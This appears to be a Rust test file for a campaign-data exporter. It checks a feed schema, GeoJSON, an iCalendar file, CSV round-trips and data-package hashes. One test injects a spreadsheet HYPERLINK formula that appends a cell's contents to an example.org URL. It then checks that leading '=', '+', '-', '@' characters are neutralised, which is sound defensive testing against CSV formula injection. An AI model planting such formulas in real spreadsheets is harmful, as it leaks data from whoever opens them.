//! Tables, GeoJSON and calendar, read by other programs' readers.

use crate::support::{built, campaign, copy_of, edit, sentences};
use hrc::export::unguarded;
use hrc::publication::Publication;
use serde_json::Value;
use std::fs;

fn file<'a>(publication: &'a Publication, name: &str) -> &'a [u8] {
    &publication.files.iter().find(|file| file.name == name).unwrap_or_else(|| panic!("no {name}")).bytes
}

fn json(bytes: &[u8]) -> Value {
    serde_json::from_slice(bytes).unwrap()
}

#[test]
fn the_schema_that_is_published_accepts_the_feed() {
    for name in ["facts", "sample"] {
        let publication = built(&campaign(name), None);
        let schema = json(file(&publication, "feed.schema.json"));
        let validator = jsonschema::options().should_validate_formats(true).build(&schema).unwrap();
        let mut feed = json(&publication.feed);
        let errors: Vec<String> = validator.iter_errors(&feed).map(|error| error.to_string()).collect();
        assert_eq!(errors, [] as [&str; 0], "{name}");
        feed["campaign"]["milestones"][0]["target"] = "ten".into();
        assert!(!validator.is_valid(&feed), "a feed that is wrong is refused");
    }
}

#[test]
fn places_are_longitude_first_and_no_member_is_dropped() {
    let publication = built(&campaign("sample"), None);
    let text = String::from_utf8(file(&publication, "members.geojson").to_vec()).unwrap();
    let collection: geojson::FeatureCollection = text.parse().unwrap();
    assert_eq!(collection.features.len(), 140);
    assert_eq!(collection.features.iter().filter(|feature| feature.geometry.is_none()).count(), 3);
    let barcelona = &collection.features[0];
    assert_eq!(barcelona.id, Some(geojson::feature::Id::String("es-barcelona".into())));
    let geometry = barcelona.geometry.as_ref().unwrap();
    assert!(format!("{:?}", geometry.value).contains("2.15899, 41.38879"), "{geometry:?}");
    assert_eq!(barcelona.property("precision").unwrap(), "seat");
    assert_eq!(barcelona.property("sample").unwrap(), true);
    let foreign = collection.foreign_members.unwrap();
    assert_eq!(foreign["demo"], true);
}

#[test]
fn the_calendar_has_the_dated_session_at_its_instant_and_a_note_for_the_other() {
    let publication = built(&campaign("facts"), None);
    let text = String::from_utf8(file(&publication, "sessions.ics").to_vec()).unwrap();
    assert!(text.split("\r\n").all(|line| line.len() <= 75), "lines are folded");
    assert_eq!(text.matches("BEGIN:VEVENT\r\n").count(), 1);
    // 17:00 in Seville; the official page printed that hour as UTC.
    assert!(
        text.contains("\r\nDTSTART:20220614T150000Z\r\n") && text.contains("\r\nDTEND:20220614T163000Z\r\n")
    );
    let unfolded = text.replace("\r\n ", "");
    assert!(unfolded.contains("17:00–18:30 (Europe/Madrid)"), "{unfolded}");
    assert!(unfolded.contains("SUMMARY:[Sample data] "), "{unfolded}");
    let found = sentences(&publication);
    assert!(
        found
            .iter()
            .any(|note| note.starts_with("note: campaign.toml, line") && note.contains("sessions.ics")),
        "{found:#?}"
    );
}

#[test]
fn formulas_in_cells_are_text_and_come_back_as_they_were() {
    let folder = copy_of("sample");
    let formula = "=HYPERLINK(\"https://example.org/?\"&A1,\"Graz\")";
    // In a sheet it would be a formula, so it is written with an apostrophe there too.
    edit(
        folder.path(),
        "members.csv",
        ",Barcelona,Barcelona,",
        &format!(",\"'{}\",Barcelona,", formula.replace('"', "\"\"")),
    );
    let publication = built(folder.path(), None);
    let mut reader = csv::Reader::from_reader(file(&publication, "members.csv"));
    let heads = reader.headers().unwrap().clone();
    let name = heads.iter().position(|head| head == "name").unwrap();
    let records: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(json(&publication.files[0].bytes)["members"][0]["name"], formula);
    assert_eq!(records[0][name], format!("'{formula}"));
    assert_eq!(unguarded(&records[0][name]), formula);
    for record in &records {
        for (head, cell) in heads.iter().zip(record) {
            let harmless = !cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(harmless || cell.parse::<f64>().is_ok(), "{head}: {cell}");
        }
    }
}

#[test]
fn the_table_of_members_is_a_sheet_that_builds_the_same_members() {
    let folder = copy_of("sample");
    let publication = built(folder.path(), None);
    fs::write(folder.path().join("members.csv"), file(&publication, "members.csv")).unwrap();
    let again = built(folder.path(), None);
    let list = |publication: &Publication| json(&publication.feed)["members"].clone();
    assert_eq!(list(&again), list(&publication), "{:#?}", sentences(&again));
}

#[test]
fn every_column_is_described_and_every_file_has_its_hash() {
    for name in ["facts", "sample"] {
        let publication = built(&campaign(name), None);
        let package = json(file(&publication, "datapackage.json"));
        assert_eq!(package["licenses"][0]["name"], "CC-BY-4.0");
        assert!(package["description"].as_str().unwrap().starts_with("Sample data."));
        for resource in package["resources"].as_array().unwrap() {
            let bytes = file(&publication, resource["path"].as_str().unwrap());
            assert_eq!(resource["bytes"], bytes.len());
            assert_eq!(resource["hash"], format!("sha256:{}", hrc::publication::sha256(bytes)));
            let Some(fields) = resource["schema"]["fields"].as_array() else { continue };
            let heads = csv::Reader::from_reader(bytes).headers().unwrap().clone();
            let described: Vec<&str> = fields.iter().map(|field| field["name"].as_str().unwrap()).collect();
            assert_eq!(heads.iter().collect::<Vec<_>>(), described);
        }
    }
}
